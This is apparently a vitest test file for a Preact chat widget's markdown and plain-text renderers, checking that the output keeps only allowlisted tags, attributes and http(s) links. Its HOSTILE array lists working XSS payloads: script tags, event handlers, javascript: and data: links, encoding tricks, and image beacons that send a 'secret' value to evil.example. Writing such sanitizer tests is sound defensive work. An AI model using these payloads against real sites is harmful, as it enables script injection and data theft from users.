import { h } from "preact";
import { renderToString } from "preact-render-to-string";
import { describe, expect, test } from "vitest";
import { Markdown } from "../../src/browser/widget/markdown-view.tsx";
import { PlainText } from "../../src/browser/widget/plain-text.tsx";

/** Texts that try to become script, to load something from elsewhere, or to lead somewhere else than they say. */
const HOSTILE: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/p.gif?d=secret'>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example/x.swf>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action=//evil.example><input name=card></form>",
  "<video poster=//evil.example/p.png><source onerror=alert(1)></video>",
  "<audio src=//evil.example/a.mp3 autoplay>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<div style='background:url(//evil.example/b.png)'>x</div>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "</div></section><script>alert(1)</script>",
  "<br onmouseover=alert(1)>",
  "<br/onclick=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](filesystem:https://evil.example/1)",
  "[x](view-source:https://evil.example)",
  "[x](//evil.example)",
  "[x](/relative)",
  '[x](https:evil.example" onclick="alert(1))',
  '[x](https://evil.example/"onmouseover="alert(1))',
  "[x](https://evil.example 'title\" onload=\"alert(1)')",
  '[x" onclick="alert(1)](https://evil.example)',
  "[<img src=x onerror=alert(1)>](https://evil.example)",
  "[![alt](https://evil.example/p.png)](https://evil.example)",
  "![x](https://evil.example/p.png?d=secret)",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](x)',
  "![x][ref]\n\n[ref]: https://evil.example/p.png",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "<https://evil.example/><javascript:alert(1)>",
  'https://evil.example/"onclick=alert(1)',
  "https://evil.example/<script>alert(1)</script>",
  "https://bank.example@evil.example/",
  "[bank](https://bank.example:443@evil.example/)",
  "javascript:alert(1)",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| <script>1</script> | ![x](https://evil.example/p.png) |",
  "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
  "# <svg/onload=alert(1)>",
  "**<script>alert(1)</script>** _<img src=x onerror=alert(1)>_",
  "[1](javascript:alert(1)) [2]",
  "[1]: javascript:alert(1)",
  '<p style="animation-name:x" onanimationstart="alert(1)">',
  "<x onclick=alert(1) tabindex=1>x",
  "$\u007balert(1)} {{constructor.constructor('alert(1)')()}}",
  "\u202ehttps://evil.example/gpj.exe",
  "\0<script>alert(1)</script>",
];

/** Reads the drawn HTML as a browser would: tags with their attributes, none of them by regular-expression luck. */
function tagsOf(
  html: string,
): readonly { readonly name: string; readonly attributes: ReadonlyMap<string, string> }[] {
  return [...html.matchAll(/<([a-zA-Z][^\s/>]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g)].map(
    ([, name = "", rest = ""]) => ({
      name: name.toLowerCase(),
      attributes: new Map(
        [...rest.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)].map(([, key = "", value = ""]) => [key, value]),
      ),
    }),
  );
}

describe.each([
  ["an answer", (text: string) => renderToString(h(Markdown, { text, citations: [] }))],
  [
    "an answer that is still arriving",
    (text: string) => renderToString(h(Markdown, { text, citations: [], isGrowing: true })),
  ],
  ["what a person wrote", (text: string) => renderToString(h(PlainText, { text }))],
])("%s", (_name, draw) => {
  test.each(HOSTILE)("stays harmless: %j", (text) => {
    const html = draw(text);
    for (const { name, attributes } of tagsOf(html)) {
      expect(SAFE_ELEMENTS).toContain(name);
      for (const [key, value] of attributes) {
        expect(SAFE_ATTRIBUTES).toContain(key);
        if (key === "href") expect(value).toMatch(/^https?:\/\/(?![^/]*@)/);
      }
    }
    // Every angle bracket that opens something was counted above.
    expect((html.match(/<[a-zA-Z!?]/g) ?? []).length).toBe(tagsOf(html).length);
  });
});

test("there are at least sixty of them", () => {
  expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(60);
});

const SAFE_ELEMENTS: readonly string[] = [
  ...["p", "br", "hr", "strong", "em", "code", "pre", "a", "sup", "ul", "ol", "li", "blockquote"],
  ...["div", "table", "thead", "tbody", "tr", "th", "td"],
];
const SAFE_ATTRIBUTES: readonly string[] = ["class", "href", "target", "rel", "start", "scope"];
